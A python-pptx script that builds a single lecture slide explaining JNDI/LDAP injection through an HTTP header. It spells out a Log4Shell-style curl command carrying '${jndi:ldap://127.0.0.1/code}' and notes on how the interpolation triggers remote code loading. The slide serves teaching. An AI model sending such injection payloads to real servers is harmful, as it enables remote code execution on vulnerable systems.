
from lxml import etree
from pptx import Presentation
from pptx.dml.color import RGBColor
from pptx.enum import text as t
from pptx.oxml import ns
from pptx.util import Inches, Pt

BLACK = RGBColor(0x00, 0x00, 0x00)
BLUE = RGBColor(0x44, 0x72, 0xC4)
TEAL = RGBColor(0x36, 0xAC, 0xAA)
DARK = RGBColor(0x39, 0x3A, 0x34)
RED = RGBColor(0xFF, 0x00, 0x00)
ORANGE = RGBColor(0xED, 0x7D, 0x31)
PINK = RGBColor(0xE3, 0x11, 0x6C)
GREY = RGBColor(0xD6, 0xDC, 0xE5)
PALE = RGBColor(0xDE, 0xEB, 0xF7)
SANS, MONO = "Calibri", "Courier New"


def plain(words, size=18):
    return words, SANS, size, BLACK


def code(words, color=PINK, size=18):
    return words, MONO, size, color


# Each block is a list of paragraphs, each paragraph a list of runs.
TITLE = [[plain("An HTTP request example", 44)]]
LEAD = [[plain("Attackers manipulate an HTTP request and inject malicious "
               "LDAP queries sent to an LDAP server.", 28)]]
CURL = [[
    code("curl ", BLUE),
    code("127.0.0.1:8080", TEAL),
    code(" -H ", DARK),
    code("'", RED, 20),
    code("X-Api-Version", ORANGE),
    code(": ${jndi:ldap://127.0.0.1/code}"),
    code("'", RED, 20),
]]
NOTES = [
    [
        code("jndi:ldap://127.0.0.1/code "),
        plain("is a string that resembles a JNDI (Java Naming and Directory "
              "Interface) URL pointing to an LDAP server at 127.0.0.1 (which "
              "is the local machine) with a path of "),
        code("/code"),
        plain("."),
    ],
    [
        code("${} "),
        plain("indicates variable interpolation,. It's trying to trick the "
              "victim server into interpreting "),
        code("${jndi:ldap://127.0.0.1/code} "),
        plain("as a malicious code to execute"),
    ],
]


def bullet(para, indent):
    props = para._p.get_or_add_pPr()
    props.set("marL", str(Inches(indent)))
    props.set("indent", str(-Inches(indent)))
    etree.SubElement(props, ns.qn("a:buFont")).set("typeface", "Arial")
    etree.SubElement(props, ns.qn("a:buChar")).set("char", "•")


def write(slide, paras, at, fill=None, indent=0, spacing=None,
          anchor=t.MSO_ANCHOR.TOP):
    box = slide.shapes.add_textbox(*map(Inches, at))
    if fill is not None:
        box.fill.solid()
        box.fill.fore_color.rgb = fill
    frame = box.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = anchor
    for i, runs in enumerate(paras):
        para = frame.add_paragraph() if i else frame.paragraphs[0]
        if indent:
            bullet(para, indent)
        if spacing:
            para.line_spacing = spacing
        for words, face, size, color in runs:
            run = para.add_run()
            run.text = words
            run.font.name = face
            run.font.size = Pt(size)
            run.font.color.rgb = color


def main():
    deck = Presentation()
    deck.slide_width, deck.slide_height = Inches(13.33), Inches(7.5)
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    write(slide, TITLE, (0.92, 0.4, 11.5, 1.45), spacing=0.9,
          anchor=t.MSO_ANCHOR.MIDDLE)
    write(slide, LEAD, (0.92, 2, 11.5, 1.16), indent=0.25, spacing=0.9)
    write(slide, CURL, (1.05, 3.92, 11.07, 0.44), fill=GREY)
    write(slide, NOTES, (1, 4.87, 11.12, 1.62), fill=PALE, indent=0.38)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
